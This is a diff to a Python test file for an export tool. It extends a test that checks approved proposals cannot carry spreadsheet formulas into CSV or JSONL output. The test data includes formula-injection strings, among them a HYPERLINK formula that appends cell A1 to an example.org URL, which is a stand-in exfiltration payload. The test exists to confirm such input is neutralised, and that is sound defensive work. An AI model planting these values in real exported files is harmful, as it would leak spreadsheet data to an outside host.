@@ -49,7 +49,8 @@ def written(base: FactBase, what: str, form: str = "jsonl") -> str:
 
 
 def test_every_sort_of_record_but_the_paragraphs_can_be_exported() -> None:
-    assert set(EXPORTED) == set(Seeds.__slots__) - {"paragraphs"}
+    # What tells talk is no record: numbers that say nothing without the encoder.
+    assert set(EXPORTED) == set(Seeds.__slots__) - {"paragraphs", "talk"}
 
 
 @pytest.mark.parametrize("what", EXPORTED)
@@ -150,18 +151,20 @@ def test_a_byte_order_mark_is_for_csv_alone(
     assert capsys.readouterr().err == "--bom is for CSV alone: yrd export facts --format csv --bom.\n"
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "＝"])
 def test_what_an_approved_proposal_says_is_no_formula_in_what_is_exported(
-    base: FactBase, tmp_path: Path, first: str
+    base: FactBase, tmp_path: Path
 ) -> None:
-    hostile = (
-        first + 'HYPERLINK("https://example.org/?x="&A1,"Ningbo and Hefei opened a joint harbour office")'
-    )
-    draft = PAGE.model_copy(
-        update={"statement": hostile, "speaker": f"{first}1+2", "caveat": f"{first}A1", "title": f"{first}B2"}
+    called = 'HYPERLINK("https://example.org/?x="&A1,"Ningbo and Hefei opened a joint harbour office")'
+    hostile = {first: (f"{first}{called}", f"{first}1+2", f"{first}A1", f"{first}B2") for first in "=+-@＝"}
+    drafts = (
+        PAGE.model_copy(
+            update={"url": f"https://example.org/news/{number}"}
+            | dict(zip(("statement", "speaker", "caveat", "title"), texts, strict=True))
+        )
+        for number, texts in enumerate(hostile.values())
     )
     store = Store.open(tmp_path / "state.db")
-    for event in approved(draft):
+    for event in approved(*drafts):
         record(store, event)
     kept = replay(StoredContributions(store).events("T1"))
     store.close()
@@ -175,7 +178,7 @@ def test_what_an_approved_proposal_says_is_no_formula_in_what_is_exported(
             assert not [
                 text for text in row.values() if re.match(FORMULA, text) and text.strip("-.0123456789")
             ]
-    assert {f"'{hostile}", f"'{first}1+2", f"'{first}A1", f"'{first}B2"} <= set(said)
+    assert {f"'{text}" for texts in hostile.values() for text in texts} <= set(said)
 
 
 def test_a_fact_says_where_it_comes_from(base: FactBase) -> None:
